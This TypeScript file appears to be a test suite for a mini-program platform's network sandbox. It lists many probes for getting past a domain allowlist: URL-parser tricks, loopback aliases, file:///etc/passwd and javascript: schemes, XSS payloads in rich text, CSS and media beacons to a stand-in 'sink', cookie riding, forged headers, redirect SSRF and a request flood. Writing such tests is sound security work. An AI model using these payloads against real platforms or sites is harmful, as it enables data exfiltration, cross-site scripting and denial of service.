// Ways to the network past the domain list, and with somebody else's name.
import type { Attack } from './attack'

declare const wx: any

/** One call of the façade to each address; whatever answers is loot. */
const asks = (name: string, addresses: (tools: { sink: string, own: string, platform: string, host: string }) => string[]): Attack => ({
  name,
  declares: 'own',
  script: (Function('tools', `return (async () => {
    for (const url of (${addresses.toString()})(tools)) {
      const got = await new Promise(resolve => wx.request({ url, success: resolve, fail: () => resolve(null), timeout: 1000 }))
      if (got) tools.loot('an answer from ' + url)
    }
  })()`)) as Attack['script'],
})

export const NETWORK: Attack[] = [
  asks('an address that is not declared', ({ sink }) => [sink, sink.replace('http:', 'https:'), sink.toUpperCase()]),
  asks('a declared name as user, path or part of a name', ({ sink, own }) => [
    sink.replace('http://', `http://${own.slice(7)}@`), sink.replace('http://', `http://${own.slice(7).split(':')[0]}:x@`), `${sink}#${own}`, `${sink}?${own}`, sink.replace('//localhost', `//127.0.0.1.localhost`),
  ]),
  asks('slashes, spaces and letters that parsers read differently', ({ sink }) => [
    sink.replace('//', '\\\\'), sink.replace('//', '/\\'), sink.replace('//', '///'), ` ${sink}`, `\t${sink}`, sink.replace('http', 'ht\ntp'), sink.replace('localhost', 'loca\u3002lhost'), sink.replace('localhost', 'ⓛⓞⓒⓐⓛⓗⓞⓢⓣ'), sink.slice(5), sink.replace('http://', 'http:'),
  ]),
  asks('the loopback in other spellings', ({ own, sink }) => {
    const port = sink.split(':')[2]
    return own ? [`http://[::1]:${port}`, `http://localhost.:${port}`, `http://0.0.0.0:${port}`, `http://127.1.1.1:${port}`, `http://[::ffff:7f00:2]:${port}`] : []
  }),
  asks('other schemes', () => ['file:///etc/passwd', 'javascript:alert(1)', 'data:text/plain,x', 'blob:null/1', 'about:blank', 'chrome://version', 'view-source:http://localhost', 'filesystem:http://localhost/x', 'ftp://localhost']),
  asks('the host page’s own server', ({ host }) => [`${host}/secret`, host]),
  asks('the platform', ({ platform }) => [`${platform}/connect/code`, `${platform}/connect/open`, `${platform}/container/frame.html`]),
  asks('a declared server that redirects to one that is not', ({ own, sink, host }) => [`${own}/redirect?to=${sink}/landed`, `${own}/redirect?to=${host}/secret`, `${own}/redirect?to=file:///etc/passwd`]),
  {
    name: 'the host’s cookies with a request to the host, which the manifest declares',
    declares: 'host',
    async script({ host, loot }) {
      for (const header of [{}, { Cookie: 'forged=1' }, { cookie: 'forged=1', 'X-Test': '1' }]) {
        const got: any = await new Promise((resolve) => wx.request({ url: `${host}/secret`, header, withCredentials: true, enableCookie: true, success: resolve, fail: () => resolve(null) }))
        if (got && /secret/.test(JSON.stringify(got.data))) loot('what the host gives to its user')
      }
    },
  },
  {
    name: 'headers that name somebody else',
    declares: 'own',
    mayAsk: /./,
    async script({ own, loot }) {
      const header = { Host: 'bank.example', Origin: 'https://bank.example', Referer: 'https://bank.example/', Cookie: 'a=1', 'Sec-Fetch-Site': 'same-origin', 'Proxy-Authorization': 'forged', Via: 'forged', 'X-Fine': 'yes' }
      for (const [name, value] of Object.entries(header)) {
        const got: any = await new Promise((resolve) => wx.request({ url: `${own}/headers`, header: { [name]: value }, success: resolve, fail: () => resolve(null) }))
        if (name !== 'X-Fine' && got && JSON.stringify(got.data).includes(value)) loot(`the header ${name}`)
        if (name === 'X-Fine' && got?.data?.['x-fine'] !== 'yes') loot('nothing: the control did not come through')
      }
    },
  },
  {
    name: 'sockets to the host, the platform and elsewhere',
    declares: 'host',
    async script({ host, platform, sink, loot, settle }) {
      for (const url of [host, platform, sink].map((http) => http.replace('http', 'ws'))) {
        const task = wx.connectSocket({ url, fail() {} })
        task?.onOpen?.(() => loot(`a socket to ${url}`))
      }
      await settle(300)
    },
  },
  {
    name: 'up- and downloads to what is not declared',
    declares: 'own',
    async script({ sink, loot, outcome }) {
      if (await outcome('downloadFile', { url: `${sink}/file` }) === 'done') loot('a download')
      if (await outcome('uploadFile', { url: `${sink}/file`, filePath: '/app.json', name: 'f' }) === 'done') loot('an upload')
      if (await outcome('getImageInfo', { src: `${sink}/picture.png` }) === 'done') loot('an image’s size')
      if (await outcome('saveImageToPhotosAlbum', { filePath: `${sink}/picture.png` }) === 'done') loot('a saved image')
    },
  },
  {
    name: 'pictures and media as beacons',
    declares: 'own',
    files: { 'pages/index/index.wxml': '<image src="SINK/image"/><cover-image src="SINK/cover"/><video src="SINK/video" poster="SINK/poster" autoplay/><audio src="SINK/audio" poster="SINK/audio-poster"/><button style="background-image: url(SINK/button)">x</button><image src="{{late}}"/>' },
    async script({ sink, page, settle }) {
      page.setData({ late: `${sink}/late` })
      await settle(300)
    },
  },
  {
    name: 'sheets that fetch',
    declares: 'own',
    files: {
      'pages/index/index.wxml': '<view class="a">x</view><input class="b" value="secret"/><text class="c">x</text>',
      'pages/index/index.wxss': `@import url("SINK/imported.css");
@font-face { font-family: gone; src: url("SINK/font.woff2") }
.a { background: url(SINK/background); cursor: url(SINK/cursor), auto; list-style-image: url(SINK/list); border-image: url(SINK/border) 1; mask-image: url(SINK/mask); filter: url(SINK/filter#x); clip-path: url(SINK/clip#x); shape-outside: url(SINK/shape) }
.a::before { content: url(SINK/content) }
.b[value^="s"] { background: image-set("SINK/set" 1x) }
.c { font-family: gone; background: cross-fade(url(SINK/fade), red 50%) }`,
    },
    async script({ settle }) { await settle(300) },
  },
  {
    name: 'inline styles that fetch, set late and animated',
    declares: 'own',
    files: { 'pages/index/index.wxml': '<view id="a" style="{{style}}" animation="{{animation}}">x</view><rich-text nodes="{{nodes}}"/>' },
    async script({ sink, page, settle }) {
      page.setData({ style: `background: url("${sink}/inline")`, nodes: `<p style="background:url(${sink}/rich)">x</p><img src="${sink}/img" srcset="${sink}/srcset 1x" onerror="x">` })
      page.animate?.('#a', [{ backgroundImage: `url(${sink}/frame)` }, { backgroundImage: `url(${sink}/frame2)` }], 50, () => undefined)
      const animation = wx.createAnimation({ duration: 10 })
      animation.backgroundColor(`url(${sink}/animation)`).step()
      page.setData({ animation: animation.export() })
      await settle(300)
    },
  },
  {
    name: 'elements of HTML that fetch or lead away',
    declares: 'own',
    files: {
      'pages/index/index.wxml': `<link rel="stylesheet" href="SINK/link.css"/><link rel="dns-prefetch" href="SINK"/><link rel="preload" as="image" href="SINK/preload"/>
<iframe src="SINK/iframe" srcdoc="x"></iframe><object data="SINK/object"></object><embed src="SINK/embed"/><img src="SINK/img" srcset="SINK/srcset 1x"/>
<form action="SINK/form" method="post"><input name="a" value="b"/></form><a href="SINK/a" ping="SINK/ping" target="_top">a</a><base href="SINK"/><meta http-equiv="refresh" content="0;url=SINK/meta"/>
<svg><use href="SINK/use#a"/><image href="SINK/svg-image"/></svg><portal src="SINK/portal"/><track src="SINK/track"/><source src="SINK/source"/>`,
    },
    async script({ settle }) { await settle(300) },
  },
  {
    name: 'rich text with scripts, frames and handlers',
    declares: 'own',
    files: { 'pages/index/index.wxml': '<rich-text nodes="{{html}}"/><rich-text nodes="{{tree}}"/>' },
    async script({ sink, page, settle }) {
      const html = `<script src="${sink}/script.js"></script><iframe src="${sink}/iframe"></iframe><img src=x onerror="parent.postMessage('x','*')"><svg onload="fetch('${sink}/svg')"><a href="javascript:alert(1)">x</a><style>@import "${sink}/style"</style><form action="${sink}"><math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>`
      const tree = [{ name: 'script', attrs: { src: `${sink}/node.js` } }, { name: 'iframe', attrs: { src: `${sink}/node-frame` } }, { name: 'img', attrs: { src: `${sink}/node-img`, onerror: 'alert(1)', srcset: `${sink}/node-set 1x` } }, { name: 'a', attrs: { href: 'javascript:alert(1)', ping: sink } }, { name: 'p', attrs: { style: `background:url(${sink}/node-style)`, onclick: 'alert(1)' } }]
      page.setData({ html, tree })
      await settle(300)
    },
  },
  {
    name: 'fonts and web views of other servers',
    declares: 'own',
    files: { 'pages/index/index.wxml': '<web-view src="SINK/web"/>' },
    async script({ sink, outcome, loot, settle }) {
      if (wx.loadFontFace && await outcome('loadFontFace', { family: 'x', source: `url("${sink}/font")`, global: true }) === 'done') loot('a font')
      await settle(300)
    },
  },
  {
    name: 'an answer without end',
    declares: 'own',
    mayAsk: /\/(never|endless)/,
    async script({ own, loot, outcome }) {
      if (await outcome('request', { url: `${own}/never`, timeout: 200 }) === 'done') loot('nothing that ends')
      if (await outcome('request', { url: `${own}/endless`, timeout: 3000 }) === 'done') loot('more than a limit')
    },
  },
  {
    name: 'thousands of requests at once',
    declares: 'own',
    mayAsk: /./,
    async script({ own, outcome }) {
      await Promise.all(Array.from({ length: 3000 }, (_, at) => outcome('request', { url: `${own}/n${at}`, timeout: 2000 })))
    },
    ends: 'done',
  },
]
